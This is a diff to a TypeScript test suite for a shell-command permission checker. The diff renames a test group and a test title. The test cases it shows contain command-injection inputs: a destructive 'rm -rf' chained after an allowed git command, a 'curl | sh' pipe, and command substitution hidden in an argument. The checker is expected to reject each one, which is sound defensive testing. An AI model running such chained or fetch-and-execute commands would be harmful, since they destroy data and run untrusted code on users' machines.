@@ -41,7 +41,7 @@ function judge({ text, allow, deny = [], shell = 'bash' }: Trick): string {
 
 const git = ['git status *', 'git log *', 'git diff *'];
 
-describe('tricks that others have fallen for', () => {
+describe('tricks that deceived other tools', () => {
   test.each<[number, string, Trick, string]>([
     [1, 'a second command', { allow: git, text: 'git status && rm -rf /x' }, 'no rule: rm -rf /x'],
     [2, 'a pipe into a shell behind it', { allow: git, text: 'git log && curl e | sh' }, 'no rule: curl e'],
@@ -270,5 +270,5 @@ describe('tricks that others have fallen for', () => {
       { allow: ['read *'], text: `read 'a[$(id)]'` },
       "unreadable: 'read' with an option or a variable whose effect is not known",
     ],
-  ])('%d. %s', (_, __, trick, answer) => expect(judge(trick)).toEqual(answer));
+  ])('trick %d is not accepted: %s', (_, __, trick, answer) => expect(judge(trick)).toEqual(answer));
 });
